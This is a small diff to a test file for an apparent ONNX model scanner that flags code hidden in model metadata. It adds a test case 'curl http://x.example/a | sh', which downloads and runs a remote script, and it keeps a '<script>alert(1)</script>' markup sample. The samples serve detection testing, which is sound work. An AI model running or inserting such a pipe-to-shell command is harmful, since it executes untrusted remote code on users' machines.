@@ -118,7 +118,8 @@ describe('ONNX', () => {
     expect(said(model([relu], text(6, code)))).toEqual(['MEDIUM model-metadata-code']);
     const markup = message(14, text(1, 'about'), text(2, '<script>alert(1)</script>'));
     expect(said(model([relu], markup))).toEqual(['MEDIUM model-metadata-code']);
-    expect(said(model([relu], text(6, 'A model of trees, see https://example.org')))).toEqual([]);
+    expect(said(model([relu], text(6, 'curl http://x.example/a | sh')))).toEqual(['MEDIUM model-metadata-code']);
+    expect(said(model([relu], text(6, 'A model of trees: wget https://example.org/a.onnx')))).toEqual([]);
   });
 
   it('reports sides that no memory holds', () => {
